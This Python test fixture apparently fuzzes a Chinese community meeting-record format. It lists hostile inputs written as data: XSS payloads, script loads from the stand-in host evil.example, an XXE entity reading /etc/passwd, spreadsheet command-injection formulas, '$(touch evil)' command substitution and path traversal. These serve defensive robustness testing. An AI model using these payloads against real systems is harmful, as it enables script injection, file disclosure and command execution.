"""The texts that `hostile-words` puts into every field, and the hall they are put into."""

import re

# One of each kind of trouble; `{{…}}` are places of the program's own forms.
PAYLOADS = [
    # Tags and what runs in them.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/src=data:,alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)//",
    "<math><mi//xlink:href='data:x'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html,alert(1)>",
    "<embed src=//evil.example>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;//evil'>",
    "<form action=//evil.example><input name=q>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<style>*{background:url(//evil.example)}</style>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<plaintext>",
    "<xmp>",
    "<textarea>",
    "<title>",
    "<select><option>",
    "<table><tr><td>",
    "<frameset>",
    "<isindex action=javascript:alert(1)>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)",
    # Ways out of what surrounds them.
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><img src=x onerror=alert(1)>',
    "'>\"><b>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><b>bold</b>",
    "</h1></main></body></html><b>after</b>",
    "--><script>alert(1)</script>",
    "--!><b>bold</b>",
    "word <!-- comment",
    "word <!-- comment --> word",
    "<![CDATA[cdata]]>",
    "]]>",
    "]]><entry><id>evil</id>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<?php echo 1 ?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "&#x3c;script",
    "&amp;amp;",
    "&nosuch;",
    "&",
    "<",
    ">",
    "<a",
    '<a href="',
    "</",
    "<!",
    "<%",
    "\\",
    "word \\",
    '\\"',
    "'",
    '"',
    "a < b > c & d",
    # Links of Markdown.
    "[word](javascript:alert(1))",
    "[word](JaVaScRiPt:alert(1))",
    "[word](java&#10;script:alert(1))",
    "[word](data:text/html,<script>alert(1)</script>)",
    "[word](vbscript:msgbox(1))",
    "[word](//evil.example)",
    "[word](file:///etc/passwd)",
    '[word](https://ok.example/"onmouseover="alert(1))',
    "[word](<https://ok.example/><img src=x onerror=alert(1)>)",
    "[word](https://ok.example 'x' onx='1')",
    "[word](\x01javascript:alert(1))",
    "![word](javascript:alert(1))",
    "![word](https://evil.example/x.png)",
    '!["onerror=alert(1)](x)',
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '<https://ok.example/"onx=1>',
    "[word][ref] [ref]: javascript:alert(1)",
    "[a](b)[c](javascript:d)",
    "[[word]](javascript:alert(1))",
    "`<script>alert(1)</script>`",
    "``` <b>",
    "**<b>bold**",
    "~~<s>struck~~",
    "2*3*4 sums",
    "a_b_c words",
    "https://ok.example/?a=1&b=<script>",
    "<mailto:a@b.example?subject=<x>>",
    '[x](mailto:a@b.example"onx=)',
    # Signs that are not seen, or reorder a line.
    "\x01\x02\x08 controls",
    "\x0b\x0c feeds",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x7f delete",
    "\x85 next line",
    "\u2028 line \u2029 paragraph",
    "\u202eevil\u202c",
    "\u202a\u202b\u202d words",
    "\u2066iso\u2067lates\u2068\u2069",
    "\u200b\u200c\u200dwidthless\u2060",
    "\ufeffmark",
    "\ufffe\uffff nonchars",
    "\U0001fffe plane",
    "\U000e0041tags",
    "\ufffd replaced",
    "zal\u0338\u0489\u0353go",
    "tab\tword",
    "\u3000wide blank",
    "\u00a0blank",
    "\r carriage",
    "%0d%0aSet-Cookie: evil=1",
    "%0d%0aBEGIN:VEVENT",
    "word\\nBEGIN:VEVENT\\nEND:VEVENT",
    "\rBEGIN:VEVENT\rEND:VEVENT",
    "BEGIN:VEVENT",
    "END:VCALENDAR",
    "ATTACH;VALUE=URI:https://evil.example",
    "a;b,c:d\\;e",
    "word\\,word\\;word\\\\n",
    # Formulas of spreadsheets.
    "=1+1",
    '=HYPERLINK("//evil.example","word")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "=cmd|'/C calc'!A0",
    "\t=1+1",
    " =1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1",
    "\uff20SUM(1)",
    "%3D1+1",
    '"=1+1"',
    "'=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u3000=1+1",
    "\u00a0=1+1",
    "\u200e=1+1",
    "*=1+1*",
    "`=1+1`",
    "\\=1+1",
    "[=1+1](x)",
    "\x01=1+1",
    ";=1+1",
    ",=1+1",
    '"",=1+1',
    "-2+3+cmd|' /C calc'!A0",
    "\u2212\u2212word",
    # What ends a text of JSON, of YAML, of a table, of a path.
    '","evil":"1',
    "\\u003cscript\\u003e",
    "};alert(1);//",
    "window.hallIndex=1;",
    "\\ud800 lone",
    "---",
    "--- word",
    "# word",
    "## word",
    "> word",
    "- word",
    "- [ ] T9 word",
    "- [x] word",
    "| a | b |",
    "a | b",
    "a \\| b",
    "| --- | --- |",
    "key: value",
    "\uff1avalue",
    "{#anchor} word",
    "1. word",
    "! word",
    "^ word",
    "_ word",
    "~~~ word",
    "[ ] word",
    "~~~",
    "+++",
    "===",
    "../../../../tmp/evil",
    "/etc/passwd",
    "C:\\\\evil",
    "con.html",
    "a/b/../c",
    "%2e%2e%2fevil",
    "word\u2044..",
    # The program's own words.
    "{{title}}",
    "{{\u6b63\u6587}}",
    "{{nosuch}}",
    "{{decision|word}}",
    "}}{{",
    "${PATH}",
    "$(touch evil)",
    "%s%n%d",
    "{0}",
    "{}",
    "\uff0a\uff0a\uff0a",
    "\u6ce8\u610f: \u65e0",
    "<<<<<<< HEAD",
    "sha256:00",
]

# Texts that grow: what stands in the prose, and in a title.
GROWING = {
    "quotes": lambda n: "> " * n + "x",
    "quotes without blanks": lambda n: ">" * n + "x",
    "brackets": lambda n: "[" * n,
    "brackets and links": lambda n: "[a](" * n,
    "images": lambda n: "![" * n,
    "closed brackets": lambda n: "[" * n + "]" * n,
    "brackets before one link": lambda n: "[" * n + "](x)",
    "emphasis": lambda n: "*a " * n,
    "strong": lambda n: "**a" * n,
    "mixed": lambda n: "*_" * n,
    "underscores": lambda n: "_a" * n + "_" * n,
    "struck": lambda n: "~~a " * n,
    "ticks": lambda n: "`a``" * n,
    "ticks of all lengths": lambda n: " ".join("`" * k for k in range(1, int((2 * n) ** 0.5))),
    "autolinks": lambda n: "<https://" * n,
    "angles": lambda n: "<" * n,
    "escapes": lambda n: "\\" * n,
    "entities": lambda n: "&amp;" * n,
    "lists": lambda n: "- " * n + "x",
    "numbers": lambda n: "1. " * n + "x",
    "list and quote": lambda n: "> - " * n + "x",
    "pipes": lambda n: "|" * n,
    "blanks": lambda n: "a" + " " * n + "b",
    "digits": lambda n: "1" * n,
    "digits and hyphens": lambda n: "1-" * n,
    "places": lambda n: "{{a" * n,
    "table": lambda n: "| a " * n + "|\n" + "| - " * n + "|\n" + "| b " * n + "|",
    "deeper lists": lambda n: "\n".join(" " * (2 * k) + "- x" for k in range(int((n) ** 0.5))),
    "paragraphs": lambda n: "a\n\n" * n,
    "lazy quotes": lambda n: ">" * 50 + "a\n" + "a\n" * n,
    "long word": lambda n: "字" * n,
    "surnames": lambda n: "王" * n,
    "names and colons": lambda n: "王五：" * n,
    "brackets in full width": lambda n: "（" * n,
    "hash": lambda n: "#" * n,
    "rule": lambda n: "- " * n,
}
BY_COMMAND = [
    ("matter", "add", "{}", "--on", "2025-12-01"),
    ("matter", "note", "Q-2025-001", "备注", "{}"),
    ("new", "{}", "--on", "2025-12-05", "--at", "{}"),
    ("task", "add", "M-2025-001#1", "{}", "--due", "2025-12-31"),
    ("object", "M-2025-001-D1", "{}", "{}"),
    ("answer", "M-2025-001-D1", "{}"),
    ("decide", "M-2025-001#3", "{}"),
    ("item", "M-2025-002", "{}"),
    ("task", "note", "M-2025-001-T1", "{}"),
    ("matter", "close", "Q-2025-001", "{}"),
    ("party", "{}"),
    ("cancel", "M-2025-002", "-m", "{}"),
]

CHARTER = """---
议事厅: @1@
社区: @2@
语言: zh
时区: +08:00
格式: 2
---

# @1@

@3p@

## 各方

- 居民: 表决
- 物业: 表决
- 驻区单位: 表决
- 职能部门: 列席
- 社区: 召集

## 名册

| 姓名 | 方 | 身份 | 户 | 面积 | 业主 |
| --- | --- | --- | --- | --- | --- |
| 张三 | 居民 | @4c@ | 2-1-301 | 86.40 | 张三 |
| 钱七 | 居民 | 代表 | 2-1-302 | 86.40 | @5c@ |
| @6c@ | 居民 | 代表 |  |  |  |
| 赵六 | 物业 | @7c@ |  |  |  |
| @8c@ | 物业 | 经理 |  |  |  |

## 表决规则

### 大修

- 依据: @9@
- 表决人: 成员
- 通过: 人数 > 1/2
"""

MATTER = """---
问题: Q-2025-001
来源: @10@
提出: 居民/@11@
日期: 2025-03-02
地点: @12@
工单: @13@
---

# @14@

说 @15p@

@16p@

## 进展

- 2025-03-02 收集: @17@
- 2025-03-03 旁注: @18@
- 2025-03-10 吹哨: 物业
- [x] T1 @19@
  - 负责: 物业/@20@
  - 期限: 2025-03-13
  - 完成: 2025-03-12
  - 佐证: @21@
- 2025-11-20 结案: @22@
- [x] T2 回访
  - 负责: 社区
  - 期限: 2025-12-05
  - 完成: 2025-12-01
  - 结果: 满意
"""

MEETING = """---
会议: M-2025-001
状态: 已召开
时间: 2025-09-25 14:30-16:00
地点: @30@
主持: 社区/@31@
记录: 社区/@32@
通知: 2025-09-05
会前研究: @33@
---

# @34@

@35p@

## 参会人员

- 居民: 张三、钱七
- 物业: 赵六、@36@
- 邀请: @37@
- 委托: 周九 → 钱七（@38@）

## 议程

### 1. @39@

- 问题: Q-2025-001
- 提出: 居民/@40@
- 附件: @41@

说 @42p@

- 张三：@43p@
- @44p@

#### 表决: @45@

- 规则: 大修
- 方式: 举手
- 动议: @46@
- 范围: @47@
- 应到: 5
- 同意: 4
- 反对: 1
- 监票: @48@
- 结果: 通过

#### 决议 D1: @49@

- 性质: 协商意见
- 文号: @50@
- 经费: @51@
- 依据: 表决
- 公示: 2025-09-26 至 2025-12-11
- 异议: 2025-10-01 @52@: @53@
- 答复: 2025-10-05 不成立，@54@

说 @55p@

@56p@

- [ ] T1 @57@
  - 负责: 物业/@58@
  - 配合: 居民/@59@
  - 期限: 2025-10-15
  - 措施: @60@
  - 标准: @61@
  - 延期: 2025-10-30 因 @62@
  - 进展: 2025-10-09 @63@
  - 佐证: @64@
  - 催办: 2025-10-20 @65@

### 2. 推选

#### 表决: 推选 @66@

- 规则: 得票最多
- 名额: 1
- 选项 @67@: 3
- 选项 钱七: 2

### 3. 其他

- 结论: 达成一致

## 各方签字

- 物业: 赵六 2025-09-27 保留意见: @68@
"""


def filled(text, payload):
    """The text with the payload in each place, and behind it a word that tells the place."""

    def fill(match):
        number, kind = match[1], match[2]
        words = payload
        # At the start of a line of prose these are structure, as the format says.
        if kind == "p" and re.match(r"~~~|```|<!--|\[[ x]\]|- |#|---|===|\+\+\+|\|", payload):
            words = "词 " + payload
        if kind == "c":
            words = words.replace("|", "\\|")
        return f"{words} zq{number}"

    return re.sub(r"@(\d+)([a-z]?)@", fill, text)
